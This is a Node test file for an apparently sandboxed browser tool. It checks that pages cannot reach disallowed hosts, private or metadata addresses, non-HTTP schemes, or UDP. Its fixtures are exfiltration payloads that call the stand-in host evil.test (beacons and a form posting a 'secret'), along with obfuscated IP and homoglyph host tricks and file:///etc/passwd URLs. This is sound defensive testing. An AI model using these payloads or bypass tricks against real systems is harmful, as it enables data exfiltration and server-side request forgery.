import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { test } from 'node:test'

import { RelayError } from '../../lib/errors.ts'
import { needsBrowser } from './setup.ts'
import { openToolBrowser } from './tool-setup.ts'

/** A page that tries to reach `evil.test` in one way. EVIL becomes its address, PLAIN its host and port. */
const WAYS: Record<string, string> = {
  image: '<img src="EVIL">',
  script: '<script src="EVIL"></script>',
  style: '<style>@import "EVIL"; body { background: url(EVIL) }</style>',
  iframe: '<iframe src="EVIL"></iframe>',
  object: '<object data="EVIL"></object>',
  media: '<video src="EVIL" autoplay></video>',
  prefetch: '<link rel="preload" as="fetch" crossorigin href="EVIL">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=EVIL">',
  'script navigation': '<script>location = "EVIL"</script>',
  'form post':
    '<form method="post" action="EVIL"><input name="secret" value="1"></form><script>document.forms[0].submit()</script>',
  fetch: '<script>fetch("EVIL", { mode: "no-cors" }).catch(() => {})</script>',
  beacon: '<script>navigator.sendBeacon("EVIL", "secret")</script>',
  'event source': '<script>new EventSource("EVIL")</script>',
  websocket: '<script>new WebSocket("ws://PLAIN/")</script>',
  'worker fetch': '<script>new Worker(URL.createObjectURL(new Blob([`fetch("EVIL")`])))</script>',
  'worker websocket':
    '<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket("ws://PLAIN/")`])))</script>',
  'worker import':
    '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("EVIL")`])))</script>',
  'shared worker': '<script>new SharedWorker("/shared.js")</script>',
  popup: '<script>open("EVIL")</script>',
  'popup without opener': '<script>open("EVIL", "", "noopener")</script>',
  'data frame': `<iframe src="data:text/html,<img src='EVIL'>"></iframe>`,
  'frame in a frame': `<iframe srcdoc="<iframe src='EVIL'></iframe>"></iframe>`,
  'another spelling': '<img src="http://EV&#x131;L.test:PORT/"><img src="//%65vil.test:PORT/">',
  'an address': '<img src="http://127.0.0.1:PORT/">',
  'a decimal address': '<img src="http://2130706433:PORT/">',
  'an octal address': '<img src="http://0177.0.0.1:PORT/">',
  'an IPv6 address': '<img src="http://[::ffff:127.0.0.1]:PORT/">',
  localhost: '<img src="http://localhost:PORT/">',
  'an international name': '<img src="http://g\u043e\u043ed.test:PORT/">',
}

test('a page cannot reach a host outside its rules', needsBrowser, async (t) => {
  const ways = Object.keys(WAYS)
  const on = await openToolBrowser(t, (path) => {
    if (path === '/shared.js') {
      const headers = { 'content-type': 'text/javascript' }
      return { headers, body: `fetch("http://evil.test:${on.port}/")` }
    }
    const [, number] = /^\/way\/(\d+)/.exec(path) ?? []
    if (number === undefined) return undefined
    const html = WAYS[ways[Number(number)] ?? ''] ?? ''
    const plain = `evil.test:${on.port}`
    const body = html
      .replaceAll('EVIL', `http://${plain}/`)
      .replaceAll('PLAIN', plain)
      .replaceAll('PORT', String(on.port))
    return { body: `<title>try</title>${body}` }
  })
  for (const [at, way] of ways.entries()) {
    await t.test(way, { timeout: 30_000 }, async () => {
      on.refused.length = 0
      // The page may leave for the refused address before it has loaded.
      await on.open(`/way/${at}`).catch((error: unknown) => {
        if (!(error instanceof RelayError)) throw error
      })
      const { host } = await on.untilRefused(() => true)
      assert.notEqual(host, '')
      assert.deepEqual(on.leaks, [])
      const blocked = on.session.network.after(0, 200).items.filter((each) => each.blocked)
      assert.ok(blocked.length > 0)
    })
  }
})

test('a redirect to another host is refused, and the caller learns it', needsBrowser, async (t) => {
  const on = await openToolBrowser(t, (path) => {
    if (path === '/there')
      return { status: 302, headers: { location: `http://evil.test:${on.port}/x` } }
    if (path === '/secure')
      return { status: 307, headers: { location: `https://evil.test:${on.port}/` } }
    if (path === '/refresh') return { headers: { refresh: `0;url=http://evil.test:${on.port}/r` } }
    if (path === '/image') return { body: '<title>image</title><img src="/there">' }
    return undefined
  })
  for (const path of ['/there', '/secure']) {
    await assert.rejects(on.open(path), { code: 'HOST_NOT_ALLOWED' })
  }
  const { events = [] } = await on.open('/image')
  await on.open('/refresh')
  await on.untilRefused(({ url }) => url.endsWith('/r'))
  assert.deepEqual(on.leaks, [])
  assert.ok(events.some(({ kind, text }) => kind === 'blocked' && text.includes('evil.test')))
})

test(
  'a name that has a private address is refused although a rule names it',
  needsBrowser,
  async (t) => {
    const on = await openToolBrowser(t, () => undefined, { hosts: ['*'], privateAddresses: false })
    for (const host of [
      'good.test',
      'intranet.test',
      '127.0.0.1',
      'localhost',
      '[::1]',
      '2130706433',
    ]) {
      const opened = on.session.navigate(`http://${host}:${on.port}/`, { ...on.at, until: 'load' })
      await assert.rejects(opened, { code: 'HOST_NOT_ALLOWED' }, host)
    }
    for (const address of ['169.254.169.254', '[fd00:ec2::254]', '0xa9fea9fe']) {
      const opened = on.session.navigate(`http://${address}/latest/`, { ...on.at, until: 'load' })
      await assert.rejects(opened, { code: 'HOST_NOT_ALLOWED' }, address)
    }
    assert.deepEqual([on.hits, on.leaks], [[], []])
  },
)

test('only http and https can be opened', needsBrowser, async (t) => {
  const on = await openToolBrowser(t, () => undefined, { hosts: ['*'] })
  const addresses = [
    'file:///etc/passwd',
    'chrome://settings',
    'chrome-extension://abc/x',
    'view-source:file:///etc/passwd',
    'ftp://good.test/',
    'javascript:alert(1)',
    'devtools://devtools/bundled/inspector.html',
    'filesystem:http://good.test/temporary/x',
    'not an address',
  ]
  for (const address of addresses) {
    const opened = on.session.navigate(address, { ...on.at, until: 'load' })
    await assert.rejects(opened, { code: 'HOST_NOT_ALLOWED' }, address)
  }
})

test('no service worker is installed, and nothing is sent by UDP', needsBrowser, async (t) => {
  const socket = createSocket('udp4')
  socket.bind(0, '127.0.0.1')
  await once(socket, 'listening')
  t.after(() => socket.close())
  let datagrams = 0
  socket.on('message', () => (datagrams += 1))
  const { port } = socket.address()
  const on = await openToolBrowser(t, () => ({
    body: `<script type="module">
      const found = []
      try { await navigator.serviceWorker.register('/sw.js'); found.push('worker') } catch {}
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
      peer.createDataChannel('x')
      peer.onicecandidate = ({ candidate }) => candidate ? found.push(candidate.candidate) : document.title = 'found ' + found.join()
      await peer.setLocalDescription(await peer.createOffer())
    </script>`,
  }))
  // Service workers need a secure origin, or this one.
  await on.open('/')
  const { title } = await waitForTitle(on, 'found')
  assert.equal(title, 'found')
  assert.equal(datagrams, 0)
})

/** The state of the page once its title begins with this word. */
async function waitForTitle(on: Awaited<ReturnType<typeof openToolBrowser>>, word: string) {
  for (;;) {
    const state = await on.session.state()
    if (state.title.startsWith(word)) return state
    await on.session.wait({ ms: 50 }, on.at)
  }
}
